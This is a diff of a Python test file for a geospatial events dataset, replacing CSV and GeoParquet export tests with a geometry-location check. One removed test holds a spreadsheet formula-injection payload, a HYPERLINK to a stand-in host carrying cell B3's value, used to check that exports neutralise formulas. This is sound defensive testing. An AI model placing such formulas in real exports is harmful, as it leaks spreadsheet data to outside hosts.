@@ -2,15 +2,12 @@
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 
 import pytest
 from shapely.geometry import Point
 
 from geo.events.dataset import DatasetError, to_feature_collection, to_geojson
-from geo.io.csv import to_csv
 from geo.io.events_file import load_events
 from geo.reference.places import geometry_for
 from tests.conftest import EVENTS_PATH, ROOT
@@ -100,61 +97,15 @@ def test_geojson_export_round_trips_the_rows_exactly(events, write_json):
     assert [f["properties"]["summary"] for f in original] == list(again["summary"])
 
 
-def test_csv_export_has_one_row_per_shown_event_with_sources_and_coordinates(events):
-    shown = events[events["layer"] == "incidents"]
-    rows = list(csv.DictReader(io.StringIO(to_csv(shown))))
-    assert [r["id"] for r in rows] == list(shown["id"])
-    shanghai = next(r for r in rows if r["id"] == "disappearance-shanghai-garment-workers-2022-02")
-    point = events.loc["disappearance-shanghai-garment-workers-2022-02"].geometry
-    assert Point(float(shanghai["longitude"]), float(shanghai["latitude"])).distance(point) < 1e-6
-    assert SEED in shanghai["sources"]
-    unlocated = next(r for r in rows if r["id"] == "defection-construction-workers-winter-2022")
-    assert unlocated["longitude"] == "" and unlocated["geometry_wkt"] == ""
+def test_an_event_is_located_when_its_geometry_is_present_and_not_empty(events):
+    from shapely.geometry import LineString
 
+    from geo.events.dataset import has_location, located_mask
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_a_csv_cell_that_would_start_a_spreadsheet_formula_is_written_as_text(events, start):
-    frame = events.copy()
-    frame.loc[frame.index[0], "title"] = f'{start}HYPERLINK("http://x.example/?"&B3, "open")'
-    rows = list(csv.DictReader(io.StringIO(to_csv(frame))))
-    assert rows[0]["title"] == f"'{start}HYPERLINK(\"http://x.example/?\"&B3, \"open\")"
-    assert rows[1]["title"] == frame["title"].iloc[1]  # ordinary text unchanged
-
-
-def test_load_events_and_validate_file_read_geoparquet_by_its_suffix(events, tmp_path):
-    import pandas as pd
-
-    from geo.io.events_file import is_parquet, validate_file
-    from geo.io.geoparquet import write_events
-
-    for name in ("events.parquet", "EVENTS.PARQUET", "events.geoparquet"):
-        write_events(events, tmp_path / name)
-        assert is_parquet(tmp_path / name) and validate_file(tmp_path / name) == []
-        pd.testing.assert_frame_equal(load_events(tmp_path / name), events)
-    assert not is_parquet(EVENTS_PATH)
-
-
-def test_a_geojson_file_named_parquet_is_one_problem_not_a_traceback(tmp_path):
-    from geo.io.events_file import validate_file
-
-    wrong = tmp_path / "events.parquet"
-    wrong.write_bytes(EVENTS_PATH.read_bytes())
-    [problem] = validate_file(wrong)
-    assert str(problem).startswith(f"{wrong}: file: not a readable Parquet file")
-    with pytest.raises(DatasetError):
-        load_events(wrong)
-
-
-def test_a_geojson_file_over_the_limit_is_refused_naming_the_command_that_converts_it(tmp_path, monkeypatch):
-    from geo.io import events_file
-
-    path = tmp_path / "my events.geojson"
-    path.write_bytes(EVENTS_PATH.read_bytes())
-    monkeypatch.setattr(events_file, "MAX_FILE_BYTES", 1_000)
-    with pytest.raises(DatasetError) as raised:
-        load_events(path)
-    assert [str(p) for p in raised.value.problems] == [
-        f"{path}: file: the file is {path.stat().st_size:,} bytes, over the limit of 1,000 bytes for a GeoJSON events "
-        "file; convert it to GeoParquet with `python -m geo convert 'my events.geojson' 'my events.parquet'` and "
-        "use that file"]
-    assert events_file.validate_file(path) == []  # read feature by feature, whatever its size
+    assert has_location(Point(124.4, 40.1)) and not has_location(None)
+    assert not has_location(Point()) and not has_location(LineString())  # an empty one places nothing
+    frame = events.iloc[:4].copy()
+    frame.loc[frame.index[1], "geometry"] = None
+    frame.loc[frame.index[2], "geometry"] = Point()
+    assert located_mask(frame).tolist() == [has_location(g) for g in frame.geometry] == [True, False, False, True]
+    assert located_mask(events).equals(events.geometry.notna())  # the contract refuses empty geometries
